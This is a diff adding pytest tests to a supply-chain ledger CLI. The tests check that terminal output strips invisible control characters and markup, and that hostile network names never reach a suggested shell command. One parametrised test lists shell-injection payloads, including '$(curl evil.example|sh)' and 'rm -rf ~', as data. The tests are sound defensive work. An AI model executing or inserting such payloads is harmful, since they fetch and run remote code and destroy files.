@@ -259,6 +259,62 @@ def test_hostile_text_inside_an_event_prints_literally(genuine, tmp_path):
     json.loads(r.stdout)
 
 
+#: Printable-looking characters a terminal still obeys or hides: line/paragraph separators
+#: (Zl, Zp), soft hyphen, invisible operator, tag characters, Mongolian vowel separator,
+#: zero-width space, a bidi isolate, ESC and a C1 CSI.
+INVISIBLE = "\u2028\u2029\u00ad\u2061\U000e0041\U000e007f\u180e\u200b\u2067\x1b\x9b"
+HOSTILE_NAME = "[bold green]PROVEN[/]" + INVISIBLE + " :warning: \\"
+
+
+@pytest.fixture(scope="module")
+def hostile_world():
+    """A genuine network whose root-signed organisation names and auditor-signed site
+    names and regions carry markup and invisible characters (signed text, so PROVEN)."""
+    import test_ledger_world as tw
+
+    def register(self, org_id, *roles):
+        org = tw.Org(org_id, list(roles))
+        self.orgs[org_id] = org
+        payload = tw.RegisterOrganization(
+            org_id=org_id, name=HOSTILE_NAME + org_id, country="CD", roles=list(roles),
+            signing_keys=[tw.KeyEntry(key_id=org.key_id, public_key=org.signing.verify_key.encode().hex())],
+            sealing_key=org.sealing_public,
+        )  # fmt: skip
+        self.submit(self.sign(payload, tw.OPERATOR))
+        return org
+
+    def site_info(self, site_id, operator, origin_class):
+        info = original_site_info(self, site_id, operator, origin_class)
+        return info.model_copy(update={"name": HOSTILE_NAME + "site", "region": HOSTILE_NAME + "region"})
+
+    original_site_info = tw.World.site_info
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(tw.World, "register", register)
+        mp.setattr(tw.World, "site_info", site_info)
+        w = tw.build_world()
+    return {"root": w.policy.root_public_key, "share": bundle_of(w, "CLAIM_SHARE")}
+
+
+def test_invisible_characters_in_signed_names_of_a_proven_bundle_are_not_printed(hostile_world, tmp_path):
+    path = write(tmp_path / "share.json", hostile_world["share"])
+    r = run(["verify", str(path)], tmp_path / "config", env_key=hostile_world["root"])
+    assert r.exit_code == 0, r.output
+    assert "Traceback" not in r.output
+    leaked = sorted({f"U+{ord(ch):04X}" for ch in r.output if ch in INVISIBLE})
+    assert not leaked, leaked
+    text = "".join(r.output.split())
+    for printed in ("[boldgreen]PROVEN[/]", ":warning:", "region", "refiner"):
+        assert printed in text  # markup and emoji codes shown as typed
+
+
+@pytest.mark.parametrize("ch", list(INVISIBLE) + ["\x7f", "\r", "\n", "\u202e", "\ufeff"])
+def test_strip_controls_replaces_every_control_format_and_separator_character(ch):
+    from sdk.terminal import safe, strip_controls
+
+    assert strip_controls(f"a{ch}b") == "a\ufffdb"
+    assert ch not in safe(f"[x]{ch}")
+
+
 # --------------------------------------------------------------------------- point 10: what a claim means
 
 
@@ -304,3 +360,71 @@ def test_deep_nesting_exits_2_even_with_a_raised_recursion_limit(genuine, tmp_pa
     r = subprocess.run([sys.executable, "-c", code, "verify", str(path)], env=env, capture_output=True, timeout=300)
     assert r.returncode == 2, (r.returncode, r.stderr[-2000:])
     assert b"nested deeper" in r.stderr + r.stdout and b"Traceback" not in r.stderr
+
+
+# --------------------------------------------------------------------------- point 9 beyond verify: every CLI output
+
+
+def test_wallet_and_server_text_prints_literally_in_other_commands(tmp_path):
+    """A counterparty's product text (signed, synced into the wallet) in `lots`, and an
+    error message carrying outside text (here the endpoint named in it) through `_fail`."""
+    from crypto.pedersen import Opening
+    from sdk.wallet import LotEntry, Wallet
+
+    w = Wallet.generate("cli-org", "net", root_public_key="ab" * 32, name=HOSTILE_NAME)
+    w.add_lot(LotEntry("lot_x", {"industrial": Opening(5, 1)}, product=HOSTILE_NAME))
+    w.save(tmp_path / "w.json")
+    r = runner.invoke(app, ["lots", "--wallet", str(tmp_path / "w.json"), "--offline"])
+    assert r.exit_code == 0, r.output
+    r2 = runner.invoke(app, ["lots", "--wallet", str(tmp_path / "w.json"), "--api", "http://127.0.0.1:9/" + HOSTILE_NAME])
+    assert r2.exit_code == 2, r2.output
+    for out in (r.output, r2.output):
+        assert "Traceback" not in out
+        leaked = sorted({f"U+{ord(ch):04X}" for ch in out if ch in INVISIBLE})
+        assert not leaked, leaked
+        assert "[bold green]PROVEN[/]" in "".join(out.split()).replace("[boldgreen]", "[bold green]")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"[" * 200_000, b'{"org_id": "a", "org_id": "b"}', b"[]", b'{"org_id": "x"}', b"\xff\xfe",
+     b'{"org_id": "x-org", "name": "X", "country": "CD", "roles": ["emperor"], "signing_public_key": "00",'
+     b' "sealing_public_key": "00"}'],
+    ids=["deep", "duplicate", "not-object", "missing", "binary", "invalid-role"],
+)
+def test_register_reads_another_partys_request_strictly(tmp_path, content):
+    """`oretrace register REQUEST`: the request comes from another organisation. Deep
+    nesting (which crashed the C decoder under py_ecc's recursion limit), duplicate
+    names and malformed requests exit 2 with one line; run in a subprocess so a crash
+    is a failure."""
+    import os
+    import subprocess
+    import sys
+
+    from sdk.wallet import Wallet
+
+    (tmp_path / "req.json").write_bytes(content)
+    operator = Wallet.generate("operator", "net", key_id="root")
+    operator.save(tmp_path / "op.json")
+    code = "import crypto.group, py_ecc.bls12_381; from sdk.cli import app; app()"
+    r = subprocess.run(
+        [sys.executable, "-c", code, "register", str(tmp_path / "req.json"), "--wallet", str(tmp_path / "op.json"),
+         "--api", "http://127.0.0.1:9/graphql"],
+        capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"},
+    )  # fmt: skip
+    assert r.returncode == 2, (r.returncode, r.stderr[-500:])
+    assert "Traceback" not in r.stderr and "error:" in r.stderr
+
+
+@pytest.mark.parametrize("network", ["x; touch /tmp/pwned #", "$(curl evil.example|sh)", "a`id`", "net\nrm -rf ~"])
+def test_the_suggested_command_never_carries_a_hostile_network_name(genuine, tmp_path, network):
+    """The refusal suggests `oretrace trust add NETWORK KEY`; a bundle's own network name
+    goes into it only if it is a well-formed name (nothing a shell would interpret)."""
+    for beside in (None, genuine["root"]):
+        path = write(tmp_path / ("b" if beside else "n") / "claim.json", {**genuine["clean"], "network": network},
+                     beside_key=beside)  # fmt: skip
+        r = run(["verify", str(path)], tmp_path / "config")
+        assert r.exit_code == (EXIT_BESIDE_KEY if beside else 2), r.output
+        line = " ".join(r.output.split())
+        assert "oretrace trust add NETWORK KEY" in line, line
+        assert "touch" not in line.split("trust add")[1] and "curl" not in line.split("trust add")[1]
